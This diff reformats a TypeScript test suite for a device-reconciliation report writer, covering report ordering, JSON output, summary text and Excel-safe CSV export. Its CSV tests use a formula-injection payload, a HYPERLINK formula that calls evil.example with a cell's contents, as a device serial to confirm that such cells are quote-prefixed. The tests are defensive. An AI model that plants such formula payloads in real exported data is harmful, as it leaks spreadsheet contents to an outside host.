@@ -18,20 +18,51 @@ const NOW = '2026-12-07T12:30:00.000Z';
 const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")';
 const ARCHIVED = 'autopilot-intake-archive/processed/drops/devices.csv';
 
-const f = (serialNumber: string, cls: Finding['class'], over: Partial<Finding> = {}): Finding => ({ serialNumber, class: cls, evidence: [`evidence of ${serialNumber}`], runId: RUN, auto: [], proposed: [], ...over });
+const f = (serialNumber: string, cls: Finding['class'], over: Partial<Finding> = {}): Finding => ({
+  serialNumber,
+  class: cls,
+  evidence: [`evidence of ${serialNumber}`],
+  runId: RUN,
+  auto: [],
+  proposed: [],
+  ...over,
+});
 
 // Each finding's "since" says how long its drift stands; the letters say where it must sit.
 const FINDINGS: Finding[] = [
-  f('SN-RESOLVED-OLD', 'late-success', { since: '2026-11-01T00:00:00.000Z', auto: [{ kind: 'mark-late-success', serialNumber: 'SN-RESOLVED-OLD', runId: RUN }], results: [{ outcome: 'done', detail: 'recorded' }] }),
-  f('SN-TAG-SKIPPED', 'group-tag-drift', { since: '2026-11-20T00:00:00.000Z', ztdId: 'ztd-t', auto: [{ kind: 'restore-group-tag', ztdId: 'ztd-t', serialNumber: 'SN-TAG-SKIPPED', from: 'Kiosk', to: 'Sales' }], results: [{ outcome: 'skipped', detail: 'the tag changed again' }] }),
-  f('SN-ENTRA', 'entra-device-deleted', { since: '2026-11-10T00:00:00.000Z', ztdId: 'ztd-e', proposed: [{ kind: 'delete-and-reimport', serialNumber: 'SN-ENTRA', ztdId: 'ztd-e', archivedPath: ARCHIVED, line: 4 }] }),
+  f('SN-RESOLVED-OLD', 'late-success', {
+    since: '2026-11-01T00:00:00.000Z',
+    auto: [{ kind: 'mark-late-success', serialNumber: 'SN-RESOLVED-OLD', runId: RUN }],
+    results: [{ outcome: 'done', detail: 'recorded' }],
+  }),
+  f('SN-TAG-SKIPPED', 'group-tag-drift', {
+    since: '2026-11-20T00:00:00.000Z',
+    ztdId: 'ztd-t',
+    auto: [{ kind: 'restore-group-tag', ztdId: 'ztd-t', serialNumber: 'SN-TAG-SKIPPED', from: 'Kiosk', to: 'Sales' }],
+    results: [{ outcome: 'skipped', detail: 'the tag changed again' }],
+  }),
+  f('SN-ENTRA', 'entra-device-deleted', {
+    since: '2026-11-10T00:00:00.000Z',
+    ztdId: 'ztd-e',
+    proposed: [{ kind: 'delete-and-reimport', serialNumber: 'SN-ENTRA', ztdId: 'ztd-e', archivedPath: ARCHIVED, line: 4 }],
+  }),
   f('SN-FAILED', 'profile-failed', { since: '2026-11-05T00:00:00.000Z', ztdId: 'ztd-p' }),
-  f('FOREIGN-1', 'foreign', { runId: undefined, evidence: ['registered outside the pipeline (no ledger entry); group tag "", notContacted'] }),
+  f('FOREIGN-1', 'foreign', {
+    runId: undefined,
+    evidence: ['registered outside the pipeline (no ledger entry); group tag "", notContacted'],
+  }),
   f('SN-OK-1', 'in-order', { since: '2026-10-01T00:00:00.000Z' }),
   f('SN-OK-2', 'in-order', { since: '2026-10-02T00:00:00.000Z' }),
   f('SN-OK-3', 'in-order', { since: '2026-10-03T00:00:00.000Z' }),
-  f(EVIL, 'registration-missing', { since: '2026-11-25T00:00:00.000Z', evidence: [`no Autopilot registration has serial ${EVIL}`], proposed: [{ kind: 'delete-and-reimport', serialNumber: EVIL, archivedPath: ARCHIVED, line: 9 }] }),
-  f('SN-REC', 'leftover-import-record', { auto: [{ kind: 'delete-import-record', recordId: 'rec-1', importId: `${RUN}-c0` }], results: [null] }),
+  f(EVIL, 'registration-missing', {
+    since: '2026-11-25T00:00:00.000Z',
+    evidence: [`no Autopilot registration has serial ${EVIL}`],
+    proposed: [{ kind: 'delete-and-reimport', serialNumber: EVIL, archivedPath: ARCHIVED, line: 9 }],
+  }),
+  f('SN-REC', 'leftover-import-record', {
+    auto: [{ kind: 'delete-import-record', recordId: 'rec-1', importId: `${RUN}-c0` }],
+    results: [null],
+  }),
   f('SN-WAIT', 'profile-not-assigned', { since: '2026-11-15T00:00:00.000Z', auto: [{ kind: 'request-sync' }] }),
 ];
 const EXPECTED_ORDER = ['SN-FAILED', 'SN-ENTRA', 'SN-WAIT', 'SN-TAG-SKIPPED', EVIL, 'SN-REC', 'SN-RESOLVED-OLD', 'FOREIGN-1'];
@@ -40,7 +71,17 @@ const survey = (over: Partial<SurveyResult> = {}): SurveyResult => ({
   reconcileId: RECONCILE,
   parts: 2,
   findings: FINDINGS.length,
-  byClass: { 'in-order': 3, 'late-success': 1, 'group-tag-drift': 1, 'entra-device-deleted': 1, 'profile-failed': 1, foreign: 1, 'registration-missing': 1, 'leftover-import-record': 1, 'profile-not-assigned': 1 },
+  byClass: {
+    'in-order': 3,
+    'late-success': 1,
+    'group-tag-drift': 1,
+    'entra-device-deleted': 1,
+    'profile-failed': 1,
+    foreign: 1,
+    'registration-missing': 1,
+    'leftover-import-record': 1,
+    'profile-not-assigned': 1,
+  },
   autoActions: 4,
   proposedActions: 2,
   pages: 7,
@@ -66,24 +107,65 @@ async function written(i: ReconcileReportInput = input()) {
   await store.writePart(RECONCILE, 1, FINDINGS.slice(6));
   const outcome = await writeReconcileReport({ objects, store }, i);
   const text = async (name: string) => (await objects.get(CONTAINERS.reports, `${RECONCILE}/${name}`))!.data.toString('utf8');
-  return { outcome, json: JSON.parse(await text('report.json')) as { findings: Finding[] } & Record<string, unknown>, csv: await text('report.csv'), summary: await text('summary.md') };
+  return {
+    outcome,
+    json: JSON.parse(await text('report.json')) as { findings: Finding[] } & Record<string, unknown>,
+    csv: await text('report.csv'),
+    summary: await text('summary.md'),
+  };
 }
 
 describe('what is listed, in which order', () => {
   it('unresolved first, oldest first; undated after dated; resolved and foreign last', async () => {
-    expect([...FINDINGS].sort(reportOrder).filter((x) => x.class !== 'in-order').map((x) => x.serialNumber)).toEqual(EXPECTED_ORDER);
+    expect(
+      [...FINDINGS]
+        .sort(reportOrder)
+        .filter((x) => x.class !== 'in-order')
+        .map((x) => x.serialNumber),
+    ).toEqual(EXPECTED_ORDER);
     const { json } = await written();
     expect(json.findings.map((x) => x.serialNumber)).toEqual(EXPECTED_ORDER);
   });
 
   it.each<[string, boolean, Finding]>([
-    ['a proposal waits for an admin', true, f('A', 'entra-device-deleted', { proposed: [{ kind: 'retag-enrolled', serialNumber: 'A', ztdId: 'z', from: 'x', to: 'y' }], since: '2026-12-01T00:00:00.000Z' })],
-    ['an auto action not attempted (report-only)', true, f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], since: '2026-12-01T00:00:00.000Z' })],
-    ['an auto action failed', true, f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], results: [{ outcome: 'failed' }], since: '2026-12-01T00:00:00.000Z' })],
-    ['an auto action skipped', true, f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], results: [{ outcome: 'skipped' }], since: '2026-12-01T00:00:00.000Z' })],
+    [
+      'a proposal waits for an admin',
+      true,
+      f('A', 'entra-device-deleted', {
+        proposed: [{ kind: 'retag-enrolled', serialNumber: 'A', ztdId: 'z', from: 'x', to: 'y' }],
+        since: '2026-12-01T00:00:00.000Z',
+      }),
+    ],
+    [
+      'an auto action not attempted (report-only)',
+      true,
+      f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], since: '2026-12-01T00:00:00.000Z' }),
+    ],
+    [
+      'an auto action failed',
+      true,
+      f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], results: [{ outcome: 'failed' }], since: '2026-12-01T00:00:00.000Z' }),
+    ],
+    [
+      'an auto action skipped',
+      true,
+      f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], results: [{ outcome: 'skipped' }], since: '2026-12-01T00:00:00.000Z' }),
+    ],
     ['a drift with no action (duplicate registration)', true, f('A', 'duplicate-registration', { since: '2026-12-01T00:00:00.000Z' })],
-    ['auto actions done', false, f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], results: [{ outcome: 'done' }], since: '2026-12-01T00:00:00.000Z' })],
-    ['auto actions not needed', false, f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], results: [{ outcome: 'not-needed' }], since: '2026-12-01T00:00:00.000Z' })],
+    [
+      'auto actions done',
+      false,
+      f('A', 'group-tag-drift', { auto: [{ kind: 'request-sync' }], results: [{ outcome: 'done' }], since: '2026-12-01T00:00:00.000Z' }),
+    ],
+    [
+      'auto actions not needed',
+      false,
+      f('A', 'group-tag-drift', {
+        auto: [{ kind: 'request-sync' }],
+        results: [{ outcome: 'not-needed' }],
+        since: '2026-12-01T00:00:00.000Z',
+      }),
+    ],
     ['a foreign device', false, f('A', 'foreign', {})],
   ])('%s: unresolved = %s', (_, unresolved, finding) => {
     // Unresolved sorts before a resolved drift years older; resolved sorts after an unresolved one years newer.
@@ -103,9 +185,26 @@ describe('what is listed, in which order', () => {
 
   it('report.json carries the header, the repair tally and the findings with their results; the outcome points at it', async () => {
     const { json, outcome } = await written();
-    expect(json).toMatchObject({ reconcileId: RECONCILE, generatedAt: NOW, mode: 'repair', examined: FINDINGS.length, pages: 7, repair: { done: 1, skipped: 1 }, sync: { status: 'requested' } });
-    expect(json.findings.find((x) => x.serialNumber === 'SN-TAG-SKIPPED')!.results).toEqual([{ outcome: 'skipped', detail: 'the tag changed again' }]);
-    expect(outcome).toEqual({ reconcileId: RECONCILE, mode: 'repair', reportPath: `autopilot-reports/${RECONCILE}/report.json`, findings: FINDINGS.length, byClass: survey().byClass, repair: input().repair });
+    expect(json).toMatchObject({
+      reconcileId: RECONCILE,
+      generatedAt: NOW,
+      mode: 'repair',
+      examined: FINDINGS.length,
+      pages: 7,
+      repair: { done: 1, skipped: 1 },
+      sync: { status: 'requested' },
+    });
+    expect(json.findings.find((x) => x.serialNumber === 'SN-TAG-SKIPPED')!.results).toEqual([
+      { outcome: 'skipped', detail: 'the tag changed again' },
+    ]);
+    expect(outcome).toEqual({
+      reconcileId: RECONCILE,
+      mode: 'repair',
+      reportPath: `autopilot-reports/${RECONCILE}/report.json`,
+      findings: FINDINGS.length,
+      byClass: survey().byClass,
+      repair: input().repair,
+    });
   });
 });
 
@@ -121,15 +220,41 @@ describe('report.csv: Excel-safe', () => {
   it('a serial that is a formula comes out as text (quote-prefixed), in every cell it appears', async () => {
     const { csv } = await written();
     const row = csv.split('\r\n').find((l) => l.startsWith('registration-missing,'))!;
-    expect(row).toBe(`registration-missing,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",,${RUN},2026-11-25T00:00:00.000Z,"no Autopilot registration has serial =HYPERLINK(""http://evil.example/?""&A1,""open"")",,,delete-and-reimport`);
+    expect(row).toBe(
+      `registration-missing,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",,${RUN},2026-11-25T00:00:00.000Z,"no Autopilot registration has serial =HYPERLINK(""http://evil.example/?""&A1,""open"")",,,delete-and-reimport`,
+    );
     // No cell of the file starts with a formula character once its quoting is taken off.
-    for (const line of csv.split('\r\n').slice(1)) for (const cell of line.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g) ?? []) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+    for (const line of csv.split('\r\n').slice(1))
+      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g) ?? []) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it.each<[string, Finding, Record<string, string | undefined>]>([
-    ['results per action, "not attempted" where none', f('SN-2', 'group-tag-drift', { ztdId: 'z', since: '2026-12-01T00:00:00.000Z', auto: [{ kind: 'restore-group-tag', ztdId: 'z', serialNumber: 'SN-2', from: 'a', to: 'b' }, { kind: 'request-sync' }], results: [{ outcome: 'skipped', detail: 'enrolled since' }, null] }), { autoActions: 'restore-group-tag; request-sync', results: 'restore-group-tag: skipped (enrolled since); request-sync: not attempted' }],
-    ['no results yet (report-only): empty cells', f('SN-3', 'profile-stuck', { auto: [{ kind: 'request-sync' }] }), { autoActions: 'request-sync', results: undefined, proposedActions: undefined }],
-    ['evidence joined, proposals named', f('SN-4', 'ztdid-mismatch', { evidence: ['one', 'two'], proposed: [{ kind: 'delete-and-reimport', serialNumber: 'SN-4', archivedPath: ARCHIVED, line: 2 }] }), { evidence: 'one; two', proposedActions: 'delete-and-reimport', autoActions: undefined }],
+    [
+      'results per action, "not attempted" where none',
+      f('SN-2', 'group-tag-drift', {
+        ztdId: 'z',
+        since: '2026-12-01T00:00:00.000Z',
+        auto: [{ kind: 'restore-group-tag', ztdId: 'z', serialNumber: 'SN-2', from: 'a', to: 'b' }, { kind: 'request-sync' }],
+        results: [{ outcome: 'skipped', detail: 'enrolled since' }, null],
+      }),
+      {
+        autoActions: 'restore-group-tag; request-sync',
+        results: 'restore-group-tag: skipped (enrolled since); request-sync: not attempted',
+      },
+    ],
+    [
+      'no results yet (report-only): empty cells',
+      f('SN-3', 'profile-stuck', { auto: [{ kind: 'request-sync' }] }),
+      { autoActions: 'request-sync', results: undefined, proposedActions: undefined },
+    ],
+    [
+      'evidence joined, proposals named',
+      f('SN-4', 'ztdid-mismatch', {
+        evidence: ['one', 'two'],
+        proposed: [{ kind: 'delete-and-reimport', serialNumber: 'SN-4', archivedPath: ARCHIVED, line: 2 }],
+      }),
+      { evidence: 'one; two', proposedActions: 'delete-and-reimport', autoActions: undefined },
+    ],
   ])('%s', (_, finding, cells) => {
     expect(findingCsvRow(finding)).toMatchObject(cells);
   });
@@ -165,8 +290,18 @@ describe('summary.md', () => {
   });
 
   it.each<[string, Partial<ReconcileReportInput>, string, string[]]>([
-    ['report-only: says nothing was changed', { settings: { mode: 'report-only', stuckMinutes: 60 }, repair: undefined, sync: undefined }, 'Report only: nothing in the tenant was changed.', ['Repair:', 'Sync:']],
-    ['repair mode stopped before the repair: nothing changed', { repair: undefined, sync: undefined }, 'Nothing in the tenant was changed.', ['Repair:', 'Report only']],
+    [
+      'report-only: says nothing was changed',
+      { settings: { mode: 'report-only', stuckMinutes: 60 }, repair: undefined, sync: undefined },
+      'Report only: nothing in the tenant was changed.',
+      ['Repair:', 'Sync:'],
+    ],
+    [
+      'repair mode stopped before the repair: nothing changed',
+      { repair: undefined, sync: undefined },
+      'Nothing in the tenant was changed.',
+      ['Repair:', 'Report only'],
+    ],
   ])('%s', (_, over, wording, absent) => {
     const text = summaryMarkdown(input(over), []);
     expect(text).toContain(wording);
@@ -180,7 +315,8 @@ describe('summary.md', () => {
       operation: 'listDevices',
       status: 403,
       code: 'Authorization_RequestDenied',
-      message: 'Microsoft Graph denied GET v1.0/devices (listDevices) (Authorization_RequestDenied); it needs the application permission Device.Read.All.',
+      message:
+        'Microsoft Graph denied GET v1.0/devices (listDevices) (Authorization_RequestDenied); it needs the application permission Device.Read.All.',
       fix: "Grant the Function App's managed identity the Microsoft Graph application permission Device.Read.All.",
       phase: 'survey',
       at: NOW,
@@ -194,6 +330,8 @@ describe('summary.md', () => {
   });
 
   it('says when the ledger was backfilled from earlier reports', () => {
-    expect(summaryMarkdown(input({ survey: survey({ backfilled: 12 }) }), [])).toContain('The ledger was backfilled with 12 devices from earlier intake reports');
+    expect(summaryMarkdown(input({ survey: survey({ backfilled: 12 }) }), [])).toContain(
+      'The ledger was backfilled with 12 devices from earlier intake reports',
+    );
   });
 });
